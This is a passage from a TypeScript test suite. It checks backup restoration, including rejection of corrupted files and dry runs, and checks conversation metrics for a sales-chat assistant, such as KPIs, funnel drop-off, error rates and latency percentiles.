    expect(file.length).toBeGreaterThan(4);
    expect(JSON.parse(file.at(-2) ?? '{}')).toMatchObject({ end: true, checksum: expect.stringMatching(/^fnv1a64:/) });
    for (const [what, content] of bad) {
      await expect(restoreBackup(conn, () => content)).rejects.toBeInstanceOf(BackupError);
      // --flush deletes only after the whole file has been checked.
      await expect(restoreBackup(conn, () => content, { flush: true })).rejects.toBeInstanceOf(BackupError);
      expect([what, await snapshot()]).toEqual([what, before]);
    }

    const report = await restoreBackup(conn, () => file);
    expect(report.restored).toBe(report.keys);
    // A file without a checksum (written before it existed) still restores.
    const older = [...file.slice(0, -2), (file.at(-2) ?? '').replace(/,"checksum":"[^"]+"/, ''), ''];
    expect(older.at(-2)).toMatch(/^\{"end":true,"keys":\d+\}$/);
    await expect(restoreBackup(conn, () => older, { dryRun: true })).resolves.toMatchObject({ keys: report.keys });
    expect(await snapshot()).toEqual(before);
  });
});

describe('metrics add up', () => {
  it('counts exactly what happened: KPIs, conversions, the funnel with drop-off, latency percentiles and error rates', async () => {
    const kv = createMemoryKv({ prefix: 'm24:' });
    const now = Date.UTC(2026, 11, 3, 12, 30);
    const events: AppEvent[] = [];
    const stages = ['greeting', 'discovery', 'qualification', 'recommendation', 'objection_handling', 'closing'];
    // 10 conversations from 7 visitors; i < 6 reach discovery, i < 3 qualification, i < 1 closing. i < 4 send two
    // messages (engaged); 3 leads, 1 meeting, 1 handoff; 2 errors and 1 fallback over the 14 prospect messages.
    for (let i = 0; i < 10; i += 1) {
      const base = { conversationId: `c${i}`, visitorId: `v${i % 7}` };
      const at = now - 3_600_000 + i * 1_000;
      events.push({ type: 'conversation.started', at, ...base });
      events.push({ type: 'message', at: at + 1, ...base, role: 'user', chars: 10 });
      if (i < 4) events.push({ type: 'message', at: at + 2, ...base, role: 'user', chars: 12 });
      const furthest = i < 1 ? 5 : i < 3 ? 2 : i < 6 ? 1 : 0;
      for (let s = 1; s <= furthest; s += 1) events.push({ type: 'stage.changed', at: at + 2 + s, ...base, from: stages[s - 1] ?? '', to: stages[s] ?? '', reason: 'r' });
      if (i < 3) events.push({ type: 'lead.captured', at: at + 10, ...base, lead: { fields: { email: { value: `p${i}@x.io`, evidence: `p${i}@x.io`, confidence: 0.9 } }, score: 20 } });
      events.push({ type: 'latency', at: at + 11, ...base, metric: 'first_token', ms: 100 * (i + 1) });
    }
    events.push({ type: 'handoff.requested', at: now - 60_000, conversationId: 'c0', reason: 'call me' });
    events.push({ type: 'error', at: now - 50_000, conversationId: 'c1', code: 'llm_timeout' });
    events.push({ type: 'error', at: now - 49_000, conversationId: 'c2', code: 'llm_timeout' });
    events.push({ type: 'fallback.offline', at: now - 48_000, conversationId: 'c2', reason: 'timeout' });
    await recordEvents(kv, events, { retentionDays: 400, idleMs: 30 * 60_000, now });

    const report = await queryMetrics({ kv, range: presetRange('24h', now), now });
    expect(report.kpis).toMatchObject({ conversations: 10, engagedConversations: 4, leads: 3, handoffs: 1, visitors: 7, prospectMessages: 14, leadConversion: 0.3 });
    expect(report.series.reduce((sum, point) => sum + point.conversations, 0)).toBe(10);
    expect(report.funnel.map((step) => step.reached)).toEqual([10, 6, 3, 1, 1, 1, 0]);
    expect(report.funnel[1]).toMatchObject({ stage: 'discovery', shareOfStart: 0.6, dropOff: 0.5 });
    expect(report.funnel.at(-1)?.dropOff).toBeNull();
    expect(report.rates).toMatchObject({ turns: 14, errors: 2, errorRate: 2 / 14, fallbacks: 1, fallbackRate: 1 / 14, errorCodes: [{ code: 'llm_timeout', count: 2 }] });
    expect(report.latency.firstToken.count).toBe(10);
    // True p50 of 100…1000 ms is 500–600 ms, p95 ≈ 1000 ms: within the histogram's 20% buckets.
    expect(report.latency.firstToken.p50).toBeGreaterThanOrEqual(400);
    expect(report.latency.firstToken.p50).toBeLessThanOrEqual(720);
    expect(report.latency.firstToken.p95).toBeGreaterThanOrEqual(800);
    expect(report.latency.firstToken.p95).toBeLessThanOrEqual(1_200);

    // A range that ends before it all happened counts none of it.
    const before = await queryMetrics({ kv, range: customRange(now - 10 * 86_400_000, now - 2 * 86_400_000, now), now });
    expect(before.kpis).toMatchObject({ conversations: 0, leads: 0, leadConversion: null });
    expect(before.funnel.every((step) => step.reached === 0 && step.shareOfStart === null)).toBe(true);
  });
});
